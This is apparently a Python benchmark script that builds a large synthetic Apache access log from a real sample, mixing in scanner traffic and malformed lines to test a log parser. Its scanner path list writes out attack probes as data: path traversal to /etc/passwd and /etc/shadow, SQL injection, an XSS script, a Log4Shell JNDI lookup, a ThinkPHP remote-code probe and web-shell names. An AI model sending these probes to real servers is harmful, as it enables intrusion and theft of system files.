"""Generate a large, realistic Apache *combined* access log for benchmarks.

The log is assembled from the 10,000 real lines of
``shared/datasets/elastic-apache-logs/apache_logs.log.gz`` (semicomplete.com, 2015):

* about ``N/60`` distinct clients (IPv4, ~3 % IPv6); every benign client is bound to one
  real visitor of the source log (its user agent and its request/referer sequence) and
  replays sessions of that visitor's real ``"request" status size "referer" "UA"`` tuples;
* timestamps increase monotonically over several days (diurnal start-time profile,
  within-session gaps mixing page-asset bursts of 0-2 s and think times of tens of seconds);
* ``--scanner-frac`` (default 3 %) of the lines come from scanner-like clients: fast,
  mostly 404/403 probes of odd paths (``/wp-login.php``, ``/.env``, traversal, SQLi...),
  tool user agents, no referer -- plus the real probe lines of the source's weak-labelled IPs;
* ~0.1 % of lines carry an Apache-escaped quote ``\\"`` inside the request or the UA, ~0.01 %
  are truncated mid-line, ~0.005 % are garbage (not a log line at all).  These exercise the
  exact/slow parse path and the "unparsed lines" counter of the parser under test.

Output is deterministic for ``(--lines, --seed)``: same arguments, same bytes.
A sidecar ``PATH.meta.json`` records the counts (lines, clients, injected lines...).

Usage::

    python bench/make_big_log.py --lines 10000000 --out bench/.cache/combined-10000000-s42.log
"""

from __future__ import annotations

import argparse
import datetime as dt
import gzip
import json
import os
import re
import sys
import time
from pathlib import Path

import numpy as np

GENERATOR_VERSION = 1

REPO_ROOT = Path(__file__).resolve().parents[1]
DEFAULT_SOURCE_CANDIDATES = [
    REPO_ROOT.parent / "shared" / "datasets" / "elastic-apache-logs" / "apache_logs.log.gz",
    Path("/work/shared/datasets/elastic-apache-logs/apache_logs.log.gz"),
]

# ip ident user [time] tail   -- tail = "request" status size "referer" "ua"
_SRC_RE = re.compile(r'^(\S+) (\S+) (\S+) \[([^\]]+)\] (".*)$')
_TAIL_RE = re.compile(r'^"(.*?)" (\d{3}) (\S+) "(.*?)" "(.*)"$')

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

SCANNER_UAS = [
    "-",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Wget/1.21.3",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
]

SCANNER_PATHS = [
    "/wp-login.php",
    "/wp-admin/",
    "/wp-admin/admin-ajax.php",
    "/xmlrpc.php",
    "/wp-config.php.bak",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/cmd.php",
    "/.env",
    "/.env.bak",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.DS_Store",
    "/config.php",
    "/configuration.php",
    "/administrator/index.php",
    "/admin.php",
    "/admin/",
    "/admin/login.php",
    "/manager/html",
    "/phpmyadmin/index.php",
    "/pma/index.php",
    "/myadmin/scripts/setup.php",
    "/phpinfo.php",
    "/info.php",
    "/test.php",
    "/shell.php",
    "/cmd.php",
    "/c99.php",
    "/r57.php",
    "/cgi-bin/test-cgi",
    "/cgi-bin/php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/solr/admin/info/system?wt=json",
    "/actuator/env",
    "/actuator/health",
    "/api/v1/pods",
    "/console/",
    "/jenkins/login",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/global-protect/login.esp",
    "/autodiscover/autodiscover.xml",
    "/server-status",
    "/.well-known/security.txt",
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/index.php?id=1%27%20OR%20%271%27=%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?q=${jndi:ldap://198.51.100.7:1389/a}",
    "/product.php?id=1+UNION+SELECT+1,2,3,user(),5--",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/dump.sql",
    "/site.tar.gz",
    "/www.zip",
    "/web.config",
    "/.htaccess",
    "/.htpasswd",
    "/old/",
    "/new/",
    "/bak/",
    "/tmp/",
    "/uploads/",
    "/files/",
    "/includes/",
    "/install.php",
    "/setup.php",
    "/user/register",
    "/xmlrpc.php?rsd",
    "/wp-json/wp/v2/users",
    "/sitemap.xml",
    "/robots.txt",
    "/favicon.ico",
    "/",
    "/login",
    "/user/login",
    "/api/login",
    "/Telerik.Web.UI.WebResource.axd",
    "/owncloud/status.php",
    "/nextcloud/status.php",
    "/druid/index.html",
    "/jmx-console/",
]
SCANNER_METHODS = ["GET"] * 8 + ["POST", "HEAD"]
SCANNER_STATUS = [(404, 0.78), (403, 0.08), (400, 0.04), (200, 0.06), (301, 0.03), (405, 0.01)]

GARBAGE_LINES = [
    "",  # placeholder, replaced below (keeps indices stable)
    "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03",
    "GET / HTTP/1.1",
    'Exception in thread "main" java.lang.NullPointerException',
    "[Sun Mar 03 04:12:01.123456 2024] [mpm_event:notice] [pid 1234:tid 5678] AH00489: resuming",
    '{"level":"info","msg":"healthcheck ok"}',
    "- - - - - - - -",
    '198.51.100.23 - - [garbage-timestamp] "GET /" abc def',
    "SSH-2.0-libssh2_1.9.0",
    "\\x05\\x01\\x00",
    "#Fields: date time c-ip cs-method cs-uri-stem sc-status",
    "PROXY TCP4 198.51.100.1 203.0.113.9 56324 443",
]
GARBAGE_LINES[0] = "\t  stray whitespace line  \t"


def _find_source(explicit: str | None) -> Path:
    if explicit:
        return Path(explicit)
    for cand in DEFAULT_SOURCE_CANDIDATES:
        if cand.exists():
            return cand
    raise SystemExit("source log apache_logs.log.gz not found; pass --source")


def _load_source(path: Path):
    """Return (tails, src_ip_of_line, order) -- tails are the part after the timestamp."""
    with gzip.open(path, "rt", encoding="utf-8", errors="replace") as fh:
        raw = [ln.rstrip("\n") for ln in fh]
    tails: list[str] = []
    ips: list[str] = []
    for ln in raw:
        m = _SRC_RE.match(ln)
        if not m:
            continue
        tail = m.group(5)
        if "\x01" in tail:
            continue
        tails.append(tail)
        ips.append(m.group(1))
    return tails, ips


def _load_weak_labels(source: Path) -> set[str]:
    p = source.parent / "weak_labels.csv"
    bad: set[str] = set()
    if p.exists():
        for ln in p.read_text().splitlines()[1:]:
            parts = ln.split(",")
            if len(parts) >= 2 and parts[1] == "malicious":
                bad.add(parts[0])
    return bad


def _ipv4_strings(rng: np.random.Generator, n: int) -> list[str]:
    """n distinct public-looking IPv4 addresses (no 0/8, 10/8, 127/8, 169.254, 172.16/12,
    192.168/16, multicast/reserved)."""
    out = np.empty(0, dtype=np.uint32)
    while out.size < n:
        cand = rng.integers(1 << 24, 224 << 24, size=int(n * 1.3) + 1024, dtype=np.uint64).astype(np.uint32)
        a = cand >> 24
        b = (cand >> 16) & 0xFF
        ok = (a != 10) & (a != 127) & (a != 0) & ~((a == 169) & (b == 254))
        ok &= ~((a == 172) & (b >= 16) & (b <= 31)) & ~((a == 192) & (b == 168))
        ok &= (cand & 0xFF) != 0
        cand = cand[ok]
        merged = np.concatenate([out, cand])
        _, first = np.unique(merged, return_index=True)
        out = merged[np.sort(first)]
    out = out[:n]
    a = (out >> 24).tolist()
    b = ((out >> 16) & 0xFF).tolist()
    c = ((out >> 8) & 0xFF).tolist()
    d = (out & 0xFF).tolist()
    return [f"{w}.{x}.{y}.{z}" for w, x, y, z in zip(a, b, c, d, strict=True)]


def _ipv6_strings(rng: np.random.Generator, n: int) -> list[str]:
    prefixes = [
        "2a01:4f8",
        "2001:41d0",
        "2a02:c207",
        "2600:1f18",
        "2a03:2880",
        "2001:67c",
        "2c0f:fb50",
        "2402:3a80",
        "2804:14d",
        "2a00:1450",
    ]
    pre = rng.integers(0, len(prefixes), size=n).tolist()
    g = rng.integers(0, 0x10000, size=(n, 3)).tolist()
    host = rng.integers(1, 0x10000, size=n).tolist()
    full = rng.random(n) < 0.4
    g2 = rng.integers(0, 0x10000, size=(n, 3)).tolist()
    out = []
    seen = set()
    for i in range(n):
        if full[i]:
            s = "{}:{:x}:{:x}:{:x}:{:x}:{:x}:{:x}".format(prefixes[pre[i]], *g[i], *g2[i])
        else:
            s = "{}:{:x}:{:x}:{:x}::{:x}".format(prefixes[pre[i]], *g[i], host[i])
        if s in seen:  # astronomically rare, keep distinct anyway
            s = f"{s[:-1]}{(int(s[-1], 16) + 1) % 16:x}"
        seen.add(s)
        out.append(s)
    return out


def _timestamp_table(start: dt.datetime, n_seconds: int) -> list[str]:
    """Apache %t strings ("10/Oct/2000:13:55:36 +0000") for each second from start."""
    hms = [f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)]
    out: list[str] = []
    n_days = n_seconds // 86400 + 1
    for d in range(n_days):
        day = start + dt.timedelta(days=d)
        prefix = f"{day.day:02d}/{MONTHS[day.month - 1]}/{day.year}:"
        out.extend(prefix + t + " +0000" for t in hms)
    return out[:n_seconds]


def _quoted_variant(tail: str, k: int) -> str | None:
    """Insert an Apache-escaped quote (backslash-quote) into the request or the UA of a tail."""
    m = _TAIL_RE.match(tail)
    if not m:
        return None
    req, status, size, ref, ua = m.groups()
    if k % 2 == 0:
        parts = req.split(" ")
        if len(parts) != 3:
            return None
        sep = "&" if "?" in parts[1] else "?"
        word = ("x", "search", "O'Reilly", "1 OR 1=1", "<a>")[k % 5]
        parts[1] = f'{parts[1]}{sep}q=\\"{word}\\"'
        req = " ".join(parts)
    else:
        tag = ('Build/\\"R16NW\\"', '\\"Mozilla\\"', 'X-Foo: \\"bar\\"', '\\"\\"')[k % 4]
        ua = f"{ua} {tag}" if ua != "-" else tag
    return f'"{req}" {status} {size} "{ref}" "{ua}"'


def _scanner_tails(rng: np.random.Generator) -> tuple[list[str], list[int], list[int]]:
    """Tails grouped by scanner UA: returns (tails, seg_start, seg_len) per UA persona."""
    statuses = np.array([s for s, _ in SCANNER_STATUS])
    probs = np.array([p for _, p in SCANNER_STATUS])
    probs = probs / probs.sum()
    tails: list[str] = []
    starts: list[int] = []
    lens: list[int] = []
    for ua in SCANNER_UAS:
        starts.append(len(tails))
        n = 0
        for path in SCANNER_PATHS:
            for _ in range(2):
                meth = SCANNER_METHODS[int(rng.integers(len(SCANNER_METHODS)))]
                st = int(rng.choice(statuses, p=probs))
                size = int(rng.integers(150, 600)) if st != 200 else int(rng.integers(0, 40000))
                proto = "HTTP/1.1" if rng.random() < 0.85 else "HTTP/1.0"
                tails.append(f'"{meth} {path} {proto}" {st} {size} "-" "{ua}"')
                n += 1
        lens.append(n)
    return tails, starts, lens


def generate(
    lines: int,
    out: Path,
    seed: int = 42,
    source: str | None = None,
    days: float = 5.0,
    scanner_frac: float = 0.03,
    quote_frac: float = 0.001,
    trunc_frac: float = 0.0001,
    garbage_frac: float = 0.00005,
    ipv6_frac: float = 0.03,
    block: int = 500_000,
    verbose: bool = True,
) -> dict:
    t_start = time.perf_counter()
    rng = np.random.default_rng(seed)
    src = _find_source(source)
    tails, src_ips = _load_source(src)
    bad_ips = _load_weak_labels(src)

    # ---- personas: one per real source IP, its lines in file order ------------------------
    by_ip: dict[str, list[int]] = {}
    for i, ip in enumerate(src_ips):
        by_ip.setdefault(ip, []).append(i)
    benign_ips = [ip for ip in by_ip if ip not in bad_ips]
    probe_idx = [i for ip in by_ip if ip in bad_ips for i in by_ip[ip]]

    all_tails: list[str] = []
    p_start: list[int] = []
    p_len: list[int] = []
    for ip in benign_ips:
        p_start.append(len(all_tails))
        p_len.append(len(by_ip[ip]))
        all_tails.extend(tails[i] for i in by_ip[ip])
    n_benign_personas = len(p_start)
    # scanner personas: synthetic probes per tool UA, plus the real probe lines (one persona)
    sc_tails, sc_starts, sc_lens = _scanner_tails(rng)
    base = len(all_tails)
    all_tails.extend(sc_tails)
    sc_start = [base + s for s in sc_starts]
    sc_len = list(sc_lens)
    if probe_idx:
        sc_start.append(len(all_tails))
        sc_len.append(len(probe_idx))
        all_tails.extend(tails[i] for i in probe_idx)
    # quoted variants pool
    q_base = len(all_tails)
    q_src = rng.permutation(len(tails))[:4000].tolist()
    for k, i in enumerate(q_src):
        v = _quoted_variant(tails[i], k)
        if v is not None:
            all_tails.append(v)
    q_n = len(all_tails) - q_base

    p_start_a = np.array(p_start + sc_start, dtype=np.int64)
    p_len_a = np.array(p_len + sc_len, dtype=np.int64)
    n_sc_personas = len(sc_start)

    # persona popularity: heavy visitors of the source (crawlers, feed readers) are more
    # likely to be replayed, but sub-linearly so that many distinct visitors appear
    w = np.sqrt(p_len_a[:n_benign_personas].astype(float))
    w /= w.sum()

    horizon = int(days * 86400)
    n_scan_lines = round(lines * scanner_frac)
    n_benign_lines = lines - n_scan_lines

    # ---- benign sessions -------------------------------------------------------------------
    # ~N/60 clients; each is bound to one real visitor ("persona") and replays sessions of
    # that visitor's real lines.  Session length ~ geometric(mean 12), capped at the persona's
    # number of distinct lines (no 12x-repeated identical hit for a one-line visitor).
    mean_sess = 12.0
    n_clients = max(1, lines // 60)
    n_scan_clients = max(1, n_scan_lines // 400) if n_scan_lines else 0
    n_benign_clients = max(1, n_clients - n_scan_clients)
    act = rng.lognormal(0.0, 1.2, size=n_benign_clients)
    act /= act.sum()
    client_persona = rng.choice(n_benign_personas, size=n_benign_clients, p=w)
    parts_c, parts_l = [], []
    have = 0
    first_batch = True
    while have < n_benign_lines:
        m = max(1024, int((n_benign_lines - have) / 4) + 16)
        if first_batch:  # every client gets at least one session
            c = np.concatenate(
                [
                    np.arange(n_benign_clients, dtype=np.int64),
                    rng.choice(n_benign_clients, size=m, p=act),
                ]
            )
            first_batch = False
        else:
            c = rng.choice(n_benign_clients, size=m, p=act)
        ln = np.minimum(rng.geometric(1.0 / mean_sess, size=c.size), p_len_a[client_persona[c]])
        parts_c.append(c)
        parts_l.append(ln)
        have += int(ln.sum())
    sess_client = np.concatenate(parts_c)
    sl = np.concatenate(parts_l).astype(np.int64)
    del parts_c, parts_l
    cs = np.cumsum(sl)
    n_sess = int(np.searchsorted(cs, n_benign_lines) + 1)
    sl = sl[:n_sess]
    sess_client = sess_client[:n_sess]
    sl[-1] -= int(cs[n_sess - 1] - n_benign_lines)
    n_benign_clients = min(n_benign_clients, n_sess)  # first sessions are clients 0..n-1
    sess_persona = client_persona[sess_client]
    # session start: day uniform, hour of day from a diurnal profile
    hours = np.arange(24)
    hw = 1.0 + 0.7 * np.sin((hours - 9) / 24 * 2 * np.pi)
    hw /= hw.sum()
    day = rng.integers(0, max(1, int(days)), size=n_sess)
    hour = rng.choice(24, size=n_sess, p=hw)
    sess_t0 = day * 86400 + hour * 3600 + rng.integers(0, 3600, size=n_sess)
    sess_t0 = np.minimum(sess_t0, horizon - 1)
    sess_off = rng.integers(0, 1 << 30, size=n_sess) % p_len_a[sess_persona]

    sid = np.repeat(np.arange(n_sess, dtype=np.int64), sl)
    first = np.repeat(np.cumsum(sl) - sl, sl)
    k = np.arange(n_benign_lines, dtype=np.int64) - first  # index within session
    burst = rng.random(n_benign_lines) < 0.7
    gap = np.where(
        burst,
        rng.exponential(0.8, n_benign_lines),
        rng.lognormal(np.log(25.0), 1.0, n_benign_lines),
    )
    gap[k == 0] = 0.0
    cg = np.cumsum(gap)
    cg -= np.repeat(cg[np.cumsum(sl) - sl], sl)
    b_sec = sess_t0[sid] + cg.astype(np.int64)
    b_client = sess_client[sid]
    pers = sess_persona[sid]
    b_tpl = p_start_a[pers] + (sess_off[sid] + k) % p_len_a[pers]
    del sid, first, k, burst, gap, cg, pers

    # ---- scanner lines ---------------------------------------------------------------------
    if n_scan_lines:
        sc_act = rng.lognormal(0.0, 1.0, size=n_scan_clients)
        sc_act /= sc_act.sum()
        s_client_local = np.concatenate(
            [
                np.arange(n_scan_clients, dtype=np.int64),
                rng.choice(n_scan_clients, size=n_scan_lines - n_scan_clients, p=sc_act),
            ]
        )
        s_client_local.sort()  # group lines of a scanner together, then give each a burst
        sc_persona = n_benign_personas + rng.integers(0, n_sc_personas, size=n_scan_clients)
        sc_t0 = rng.integers(0, horizon, size=n_scan_clients)
        cnt = np.bincount(s_client_local, minlength=n_scan_clients)
        firsts = np.cumsum(cnt) - cnt
        within = np.arange(n_scan_lines, dtype=np.int64) - firsts[s_client_local]
        sgap = rng.exponential(0.6, n_scan_lines)
        sgap[within == 0] = 0.0
        scg = np.cumsum(sgap)
        scg -= scg[firsts[s_client_local]]
        s_sec = sc_t0[s_client_local] + scg.astype(np.int64)
        sp = sc_persona[s_client_local]
        s_tpl = p_start_a[sp] + rng.integers(0, 1 << 30, size=n_scan_lines) % p_len_a[sp]
        s_client = n_benign_clients + s_client_local
    else:
        s_sec = s_tpl = s_client = np.empty(0, dtype=np.int64)
        n_scan_clients = 0

    sec = np.concatenate([b_sec, s_sec])
    client = np.concatenate([b_client, s_client])
    tpl = np.concatenate([b_tpl, s_tpl])
    del b_sec, b_client, b_tpl, s_sec, s_client, s_tpl
    order = np.argsort(sec, kind="stable")
    sec = sec[order].astype(np.int32)
    client = client[order].astype(np.int32)
    tpl = tpl[order].astype(np.int32)
    del order

    # ---- anomalies: escaped quotes, truncated and garbage lines -----------------------------
    n_q = round(lines * quote_frac)
    n_tr = round(lines * trunc_frac)
    n_gb = round(lines * garbage_frac)
    special = rng.choice(lines, size=n_q + n_tr + n_gb, replace=False) if lines else np.empty(0, int)
    q_pos = special[:n_q]
    tr_pos = np.sort(special[n_q : n_q + n_tr])
    gb_pos = np.sort(special[n_q + n_tr :])
    if q_n:
        tpl[q_pos] = q_base + rng.integers(0, q_n, size=n_q)
    tr_cut = rng.random(n_tr)
    gb_pick = rng.integers(0, len(GARBAGE_LINES), size=n_gb)

    # ---- client addresses ------------------------------------------------------------------
    n_all_clients = n_benign_clients + n_scan_clients
    is6 = rng.random(n_all_clients) < ipv6_frac
    n6 = int(is6.sum())
    v4 = _ipv4_strings(rng, n_all_clients - n6)
    v6 = _ipv6_strings(rng, n6)
    ips: list[str] = []
    i4 = i6 = 0
    for flag in is6.tolist():
        if flag:
            ips.append(v6[i6])
            i6 += 1
        else:
            ips.append(v4[i4])
            i4 += 1
    prefixes = [ip + " - - [" for ip in ips]
    # a few authenticated users, as in real logs
    for j in rng.choice(n_all_clients, size=max(1, n_all_clients // 500), replace=False).tolist():
        prefixes[j] = f"{ips[j]} - user{j % 97} ["

    start = dt.datetime(2024, 3, 4, 0, 0, 0)
    n_sec = int(sec.max()) + 1 if lines else 1
    tstab = [s + "] " for s in _timestamp_table(start, n_sec)]
    t_prep = time.perf_counter() - t_start

    # ---- write ---------------------------------------------------------------------------
    out = Path(out)
    out.parent.mkdir(parents=True, exist_ok=True)
    tmp = out.with_name(out.name + ".tmp")
    n_bytes = 0
    tr_ptr = gb_ptr = 0
    with open(tmp, "wb", buffering=0) as fh:
        for b0 in range(0, lines, block):
            b1 = min(lines, b0 + block)
            cl = client[b0:b1].tolist()
            sc = sec[b0:b1].tolist()
            tp = tpl[b0:b1].tolist()
            chunk = [prefixes[c] + tstab[s] + all_tails[t] for c, s, t in zip(cl, sc, tp, strict=True)]
            while tr_ptr < n_tr and tr_pos[tr_ptr] < b1:
                i = int(tr_pos[tr_ptr]) - b0
                ln = chunk[i]
                chunk[i] = ln[: max(8, int(len(ln) * (0.15 + 0.7 * tr_cut[tr_ptr])))]
                tr_ptr += 1
            while gb_ptr < n_gb and gb_pos[gb_ptr] < b1:
                chunk[int(gb_pos[gb_ptr]) - b0] = GARBAGE_LINES[int(gb_pick[gb_ptr])]
                gb_ptr += 1
            chunk.append("")
            data = "\n".join(chunk).encode("utf-8")
            fh.write(data)
            n_bytes += len(data)
    os.replace(tmp, out)
    elapsed = time.perf_counter() - t_start
    meta = {
        "generator": "bench/make_big_log.py",
        "generator_version": GENERATOR_VERSION,
        "source": src.name,
        "lines": lines,
        "seed": seed,
        "bytes": n_bytes,
        "avg_bytes_per_line": round(n_bytes / lines, 1) if lines else 0,
        "days": days,
        "first_timestamp": tstab[int(sec[0])][:-2] if lines else None,
        "last_timestamp": tstab[int(sec[-1])][:-2] if lines else None,
        "clients": n_all_clients,
        "benign_clients": n_benign_clients,
        "scanner_clients": n_scan_clients,
        "ipv6_clients": n6,
        "scanner_lines": n_scan_lines,
        "escaped_quote_lines": n_q,
        "truncated_lines": n_tr,
        "garbage_lines": n_gb,
        "sessions": n_sess,
        "prep_seconds": round(t_prep, 2),
        "total_seconds": round(elapsed, 2),
    }
    Path(str(out) + ".meta.json").write_text(json.dumps(meta, indent=2) + "\n")
    if verbose:
        print(
            f"wrote {out} : {lines:,} lines, {n_bytes / 2**20:,.1f} MiB, "
            f"{n_all_clients:,} clients in {elapsed:.1f} s (prep {t_prep:.1f} s)",
            file=sys.stderr,
        )
    return meta


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
    )
    ap.add_argument("--lines", type=int, required=True, help="number of lines to write")
    ap.add_argument("--out", required=True, help="output path")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--source", default=None, help="apache_logs.log.gz (default: shared dataset)")
    ap.add_argument("--days", type=float, default=5.0, help="time span of the log")
    ap.add_argument("--scanner-frac", type=float, default=0.03)
    ap.add_argument("--quote-frac", type=float, default=0.001)
    ap.add_argument("--trunc-frac", type=float, default=0.0001)
    ap.add_argument("--garbage-frac", type=float, default=0.00005)
    a = ap.parse_args(argv)
    if a.lines < 0:
        ap.error("--lines must be >= 0")
    generate(
        a.lines,
        Path(a.out),
        seed=a.seed,
        source=a.source,
        days=a.days,
        scanner_frac=a.scanner_frac,
        quote_frac=a.quote_frac,
        trunc_frac=a.trunc_frac,
        garbage_frac=a.garbage_frac,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
